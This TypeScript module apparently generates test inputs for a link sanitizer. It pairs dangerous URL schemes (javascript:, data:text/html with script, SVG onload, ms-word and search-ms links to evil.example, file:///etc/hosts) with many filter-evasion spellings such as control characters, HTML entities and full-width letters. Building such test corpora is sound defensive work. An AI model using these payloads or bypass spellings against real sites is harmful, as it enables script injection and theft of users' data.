const canary = 'executed()';

/** Addresses that run or open something, each as a person, a browser and an old filter might spell it. */
const addresses: readonly string[] = [
  `javascript:${canary}`,
  `javascript://contoso.example/%0a${canary}`,
  `vbscript:${canary}`,
  `livescript:${canary}`,
  `data:text/html,<script>${canary}</script>`,
  `data:text/html;base64,PHNjcmlwdD5leGVjdXRlZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${canary}"/>`,
  'blob:https://contoso.example/3f1c',
  `view-source:javascript:${canary}`,
  'file:///etc/hosts',
  'ms-word:ofe|u|https://evil.example/x.docm',
  'search-ms:query=x&crumb=location:\\\\evil.example\\share',
  'feed:javascript:executed()',
  `jar:https://evil.example/x.jar!/x.html`
];

const spellings: Readonly<Record<string, (address: string) => string>> = {
  plain: address => address,
  capitals: address => address.replace(/^[\w-]+/, scheme => scheme.toUpperCase()),
  mixed: address => address.replace(/[aeiou](?=\w*:)/g, vowel => vowel.toUpperCase()),
  tab: address => split(address, '\t'),
  newline: address => split(address, '\n'),
  'carriage return': address => split(address, '\r\n'),
  nul: address => split(address, '\0'),
  'soft hyphen': address => split(address, '\u00AD'),
  'zero width space': address => split(address, '\u200B'),
  'leading control': address => `\u0001${address}`,
  'leading space': address => ` \u00A0\u3000${address}`,
  'space before colon': address => address.replace(':', ' :'),
  'decimal entities': address => address.replace(/[a-z]/g, letter => `&#${letter.charCodeAt(0)};`),
  'hexadecimal entities': address => address.replace(/^j|^d|^v/, at => `&#x${at.charCodeAt(0).toString(16)}`),
  'entity for the colon': address => address.replace(':', '&colon;'),
  'entity for a tab': address => split(address, '&Tab;'),
  percent: address => address.replace(':', '%3A'),
  'full width': address =>
    address.replace(/[a-z:]/g, letter => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)),
  escaped: address => address.replace(/^./, first => `\\u00${first.charCodeAt(0).toString(16)}`)
};

const settings: readonly ((address: string) => string)[] = [
  address => address,
  address => `[x](${address})`,
  address => `<${address}>`,
  address => `<a href="${address}">x</a>`
];

/** Every spelling once, in one setting after the other, and the plain ones in all of them. */
export const schemes: readonly string[] = Object.entries(spellings).flatMap(([name, spell], row) =>
  addresses.flatMap((address, column) => {
    const chosen = name === 'plain' ? settings : [settings[(row + column) % settings.length] ?? String];
    return chosen.map(set => set(spell(address)));
  })
);

function split(address: string, by: string): string {
  return address.slice(0, 4) + by + address.slice(4);
}
